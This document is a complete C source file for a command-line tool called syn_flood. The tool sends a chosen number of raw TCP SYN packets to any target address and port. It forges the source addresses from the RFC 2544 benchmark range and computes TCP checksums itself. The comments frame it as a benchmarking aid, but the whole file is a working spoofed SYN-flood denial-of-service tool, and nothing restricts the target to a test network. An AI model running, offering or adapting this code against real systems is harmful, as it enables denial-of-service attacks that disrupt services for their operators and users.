/* SPDX-License-Identifier: ISC */
/*
 * Sends COUNT SYNs to a port, each of another station and port that does not
 * exist: syn_flood ADDRESS PORT COUNT
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

/* For benchmarks of networks, RFC 2544: 198.18.0.0/15. */
#define FIRST	 0xc6120000u
#define STATIONS (1u << 17)

static unsigned sum(const void *data, size_t bytes, unsigned before)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < bytes; i += 2)
		before += (unsigned)(p[i] << 8 | p[i + 1]);
	while (before >> 16)
		before = (before & 0xffff) + (before >> 16);
	return before;
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct {
		struct iphdr ip;
		struct tcphdr tcp;
	} packet = {
		.ip = {.version = 4,
		       .ihl = 5,
		       .ttl = 64,
		       .protocol = IPPROTO_TCP},
		.tcp = {.doff = 5, .syn = 1, .window = 0xffff},
	};
	unsigned count = argc > 3 ? (unsigned)atoi(argv[3]) : 0;
	int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (!count || s < 0 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) {
		perror("syn_flood");
		return 1;
	}
	packet.ip.tot_len = htons(sizeof(packet));
	packet.ip.daddr = to.sin_addr.s_addr;
	packet.tcp.dest = htons((uint16_t)atoi(argv[2]));
	for (unsigned i = 0; i < count; i++) {
		unsigned part;

		packet.ip.saddr = htonl(FIRST + i * 7919 % STATIONS);
		packet.tcp.source = htons((uint16_t)(1024 + i % 60000));
		packet.tcp.seq = htonl(i * 2654435761u);
		packet.tcp.check = 0;
		/* The pseudo header, RFC 793: both addresses, protocol, bytes.
		 */
		part = sum(&packet.ip.saddr, 8,
			   IPPROTO_TCP + sizeof(packet.tcp));
		part = sum(&packet.tcp, sizeof(packet.tcp), part);
		packet.tcp.check = htons((uint16_t)~part);
		if (sendto(s, &packet, sizeof(packet), 0,
			   (struct sockaddr *)&to, sizeof(to)) < 0)
			usleep(1000); /* the tap is full */
	}
	return 0;
}
